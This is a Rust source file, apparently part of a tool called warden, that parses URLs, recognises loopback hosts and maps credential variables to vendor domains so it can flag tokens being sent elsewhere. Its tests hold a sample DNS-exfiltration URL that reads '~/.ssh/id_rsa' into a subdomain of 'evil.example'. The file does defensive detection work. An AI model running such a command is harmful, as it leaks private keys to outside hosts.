//! Where a request goes: URLs taken apart (credentials, host, the rest), hosts that never leave the machine, and which service each well-known credential belongs to.

use crate::rules::host;

/// A service whose credentials have a known home: its token sent there is
/// its use, sent anywhere else it is stolen.
#[derive(Debug, PartialEq, Eq)]
pub(in crate::rules) struct Provider {
    pub name: &'static str,
    /// Variable name prefixes (`GITHUB_` for `GITHUB_TOKEN`).
    vars: &'static [&'static str],
    /// The service's domains; a host is the service's when it is one of
    /// them or under one.
    pub(in crate::rules) domains: &'static [&'static str],
}

/// Services that are only offered by their vendor. Products that are also
/// self-hosted (GitLab, Vault, Jira, Sentry, ...) are not here: their
/// tokens go to hosts warden cannot know.
#[rustfmt::skip]
pub(in crate::rules) static PROVIDERS: &[Provider] = &[
    Provider { name: "GitHub", vars: &["GITHUB_", "GH_"], domains: &["github.com", "githubusercontent.com", "ghcr.io"] },
    Provider { name: "OpenAI", vars: &["OPENAI_"], domains: &["openai.com"] },
    Provider { name: "Anthropic", vars: &["ANTHROPIC_", "CLAUDE_"], domains: &["anthropic.com"] },
    Provider { name: "Google", vars: &["GOOGLE_", "GEMINI_", "GCP_", "GCLOUD_"], domains: &["googleapis.com", "google.com"] },
    Provider { name: "AWS", vars: &["AWS_"], domains: &["amazonaws.com", "aws.amazon.com"] },
    Provider { name: "Azure", vars: &["AZURE_"], domains: &["azure.com", "microsoft.com", "microsoftonline.com", "windows.net"] },
    Provider { name: "Hugging Face", vars: &["HF_", "HUGGINGFACE_", "HUGGING_FACE_"], domains: &["huggingface.co", "hf.co"] },
    Provider { name: "OpenRouter", vars: &["OPENROUTER_"], domains: &["openrouter.ai"] },
    Provider { name: "Mistral", vars: &["MISTRAL_"], domains: &["mistral.ai"] },
    Provider { name: "Groq", vars: &["GROQ_"], domains: &["groq.com"] },
    Provider { name: "DeepSeek", vars: &["DEEPSEEK_"], domains: &["deepseek.com"] },
    Provider { name: "Telegram", vars: &["TELEGRAM_"], domains: &["telegram.org"] },
    Provider { name: "Slack", vars: &["SLACK_"], domains: &["slack.com"] },
    Provider { name: "Discord", vars: &["DISCORD_"], domains: &["discord.com", "discordapp.com"] },
    Provider { name: "Stripe", vars: &["STRIPE_"], domains: &["stripe.com"] },
    Provider { name: "npm", vars: &["NPM_"], domains: &["npmjs.org", "npmjs.com"] },
    Provider { name: "PyPI", vars: &["PYPI_", "TWINE_"], domains: &["pypi.org"] },
    Provider { name: "Cloudflare", vars: &["CLOUDFLARE_", "CF_"], domains: &["cloudflare.com"] },
    Provider { name: "Heroku", vars: &["HEROKU_"], domains: &["heroku.com"] },
    Provider { name: "Vercel", vars: &["VERCEL_"], domains: &["vercel.com"] },
    Provider { name: "Twilio", vars: &["TWILIO_"], domains: &["twilio.com"] },
    Provider { name: "SendGrid", vars: &["SENDGRID_"], domains: &["sendgrid.com"] },
];

/// The service a credential variable belongs to, by its name.
pub(in crate::rules) fn provider_of(var: &str) -> Option<&'static Provider> {
    PROVIDERS
        .iter()
        .find(|p| p.vars.iter().any(|v| var.starts_with(v)))
}

/// The provider named `name` in [`PROVIDERS`].
pub(in crate::rules) fn provider(name: &str) -> Option<&'static Provider> {
    PROVIDERS.iter().find(|p| p.name == name)
}

impl Provider {
    pub fn serves(&self, host: &str) -> bool {
        self.domains
            .iter()
            .any(|d| host == *d || host.strip_suffix(d).is_some_and(|s| s.ends_with('.')))
    }
}

/// A host that is this machine: what is sent there does not leave it.
pub(in crate::rules) fn is_loopback(host: &str) -> bool {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    host == "localhost"
        || host.ends_with(".localhost")
        || host == "::1"
        || host == "0.0.0.0"
        || host.strip_prefix("127.").is_some_and(|rest| {
            rest.split('.').count() == 3 && rest.split('.').all(|n| n.parse::<u8>().is_ok())
        })
}

/// A URL's parts: credentials before `@`, the host, and what follows it
/// (path, query, fragment). Substitutions (`$( )`, backquotes, `${ }`) are
/// kept whole, so a `/` inside one does not end the host.
#[derive(Debug, Default, PartialEq, Eq)]
pub(in crate::rules) struct Url<'a> {
    pub userinfo: Option<&'a str>,
    pub host: &'a str,
    pub rest: &'a str,
}

/// Takes a URL apart; a word without a scheme is read the way curl reads
/// one (`host/path`).
pub(in crate::rules) fn split_url(word: &str) -> Url<'_> {
    let start = word.find("://").map_or(0, |at| at + 3);
    let after = &word[start..];
    let end = top_level(after, |c| matches!(c, '/' | '?' | '#')).unwrap_or(after.len());
    let authority = &after[..end];
    let (userinfo, host_port) = match top_level_last(authority, '@') {
        Some(at) => (Some(&authority[..at]), &authority[at + 1..]),
        None => (None, authority),
    };
    Url {
        userinfo,
        host: host_port,
        rest: &after[end..],
    }
}

/// The literal host name of a URL, read as [`host::name`] reads it (case,
/// percent escapes, the final dot and Punycode undone) and without its
/// port, when it has no expansion in it.
pub(in crate::rules) fn literal_host(url: &Url<'_>) -> Option<String> {
    let host = url.host;
    if host.is_empty() || host.contains(['$', '`', '(', '{']) {
        return None;
    }
    let name = if let Some(v6) = host.strip_prefix('[') {
        v6.split(']').next().unwrap_or(v6)
    } else {
        host.rsplit_once(':').map_or(host, |(h, port)| {
            if port.chars().all(|c| c.is_ascii_digit()) {
                h
            } else {
                host
            }
        })
    };
    Some(host::name(name).text)
}

/// Whether a host is spelled partly by hand around its expansions
/// (`$(x).evil.example`): the expansion is then a label the resolver is
/// given. A host that is all expansion (`$URL`, `$(cat url.txt)`) is the
/// whole address computed, not a name built to carry data.
pub(in crate::rules) fn has_literal_part(host: &str) -> bool {
    let mut depth = 0usize;
    let mut backquoted = false;
    let mut chars = host.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '`' => backquoted = !backquoted,
            '$' if matches!(chars.peek(), Some('(' | '{')) => {
                chars.next();
                depth += 1;
            }
            '$' if depth == 0 && !backquoted => {
                while chars
                    .next_if(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .is_some()
                {}
            }
            '(' | '{' if depth > 0 => depth += 1,
            ')' | '}' if depth > 0 => depth -= 1,
            c if depth == 0 && !backquoted && c.is_ascii_alphanumeric() => return true,
            _ => {}
        }
    }
    false
}

/// Byte offset of the first character outside substitutions that passes `stop`.
fn top_level(text: &str, stop: impl Fn(char) -> bool) -> Option<usize> {
    let mut depth = 0usize;
    let mut backquoted = false;
    let mut prev = '\0';
    for (at, c) in text.char_indices() {
        match c {
            '`' => backquoted = !backquoted,
            '(' | '{' if prev == '$' || depth > 0 => depth += 1,
            ')' | '}' if depth > 0 => depth -= 1,
            _ if depth == 0 && !backquoted && stop(c) => return Some(at),
            _ => {}
        }
        prev = c;
    }
    None
}

/// Byte offset of the last `wanted` outside substitutions.
fn top_level_last(text: &str, wanted: char) -> Option<usize> {
    let mut found = None;
    let mut from = 0;
    while let Some(at) = top_level(&text[from..], |c| c == wanted) {
        found = Some(from + at);
        from += at + wanted.len_utf8();
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls() {
        let u = split_url("https://user:$T@api.example.com:8443/v1?k=$K");
        assert_eq!(u.userinfo, Some("user:$T"));
        assert_eq!(u.host, "api.example.com:8443");
        assert_eq!(u.rest, "/v1?k=$K");
        assert_eq!(literal_host(&u).as_deref(), Some("api.example.com"));
        let dns = split_url("http://$(cat ~/.ssh/id_rsa | base64 | head -c 50).evil.example/x");
        assert_eq!(
            dns.host,
            "$(cat ~/.ssh/id_rsa | base64 | head -c 50).evil.example"
        );
        assert_eq!(literal_host(&dns), None);
        assert!(has_literal_part(dns.host));
        assert!(has_literal_part("${GITHUB_TOKEN}.x.example"));
        assert!(!has_literal_part("$URL") && !has_literal_part("$(cat url.txt)"));
        assert!(!has_literal_part("`cat u`"));
        assert_eq!(split_url("x.example/a").host, "x.example");
        assert_eq!(
            literal_host(&split_url("http://[::1]:80/")).as_deref(),
            Some("::1")
        );
    }

    #[test]
    fn providers_and_loopback() {
        let github = provider_of("GITHUB_TOKEN").expect("GitHub");
        assert!(github.serves("api.github.com") && github.serves("github.com"));
        assert!(!github.serves("evilgithub.com") && !github.serves("github.com.evil.example"));
        assert!(provider_of("API_TOKEN").is_none());
        for h in ["localhost", "127.0.0.1", "[::1]", "app.localhost"] {
            assert!(is_loopback(h), "{h}");
        }
        for h in ["127.evil.example", "x.example", "10.0.0.1"] {
            assert!(!is_loopback(h), "{h}");
        }
    }
}
